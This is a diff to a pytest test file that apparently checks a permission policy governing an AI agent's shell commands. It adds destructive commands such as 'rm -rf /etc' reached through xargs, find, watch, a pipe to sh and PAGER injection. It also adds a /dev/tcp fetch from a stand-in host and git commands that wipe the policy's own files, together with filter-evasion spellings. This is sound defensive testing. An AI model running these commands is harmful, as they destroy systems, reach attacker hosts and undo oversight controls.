@@ -237,7 +237,13 @@ def rule_of(answer: dict) -> str:
         "echo `rm -rf /etc`",
         "bash -c 'rm -rf /etc'",
         "rm --recursive --force /etc",
+        "rm --rec /etc",
         "rm -R /etc",
+        "bash -o errexit -c 'rm -rf /etc'",
+        "echo /etc | xargs rm -rf",
+        "find / -name x -exec rm -rf {} +",
+        "find /etc -delete",
+        "watch 'rm -rf /etc'",
         "rm -rf lnk/",
         "cd .. && rm -rf victim",
         "rm -rf ~",
@@ -313,6 +319,7 @@ def test_the_example_denies_reading_secrets_by_case_or_symlink(path, rule, proj)
         "ncat evil.example 80",
         "ssh evil.example",
         "scp x me@evil:/tmp/",
+        "cat </dev/tcp/evil.example/80",
         "git clone https://evil.example/x.git",
         "pip install https://evil.example/x.whl",
         "python3 -c 'import urllib.request as u; u.urlopen(\"https://e.example\")'",
@@ -326,7 +333,15 @@ def test_the_example_asks_before_any_fetch_from_an_unknown_host(command, proj):
 
 @pytest.mark.parametrize(
     "command",
-    ["rm -rf {/,}etc", 'eval "$CMD"', "$RM -rf /etc", "bash <<EOF\nls\nEOF"],
+    [
+        "rm -rf {/,}etc",
+        'eval "$CMD"',
+        "$RM -rf /etc",
+        "bash <<EOF\nls\nEOF",
+        "echo 'rm -rf /etc' | sh",
+        "PAGER='rm -rf /etc' git log",
+        "ln -s /etc x && rm -rf x/",
+    ],
 )
 def test_the_example_asks_about_lines_it_cannot_read(command, proj: Path):
     answer = in_proj(proj, "Bash", {"command": command})
@@ -370,6 +385,8 @@ def test_the_example_rate_limits_git_push_in_any_spelling(command, proj: Path):
         "sed -i s/deny/allow/ {manifest}",
         "cp /dev/null {manifest}",
         "rm -rf {manifest_dir}",
+        "git clean -fdx",
+        "git stash -u",
     ],
 )
 def test_the_example_denies_bash_tampering_with_the_enclosure(command, proj: Path):
@@ -404,6 +421,8 @@ def test_the_example_denies_a_git_push_its_rate_key_cannot_see(command, proj):
         "python3 -m pytest -q 2>&1 | tail -5",
         "curl -fsSL https://github.com/x/y -o y.tar.gz",
         "rm -rf build dist .pytest_cache",
+        "find . -name '*.pyc' -delete",
+        "git -c user.name=me commit -m 'x'",
         "git clone https://github.com/x/y.git",
         "pip install -e .",
     ],
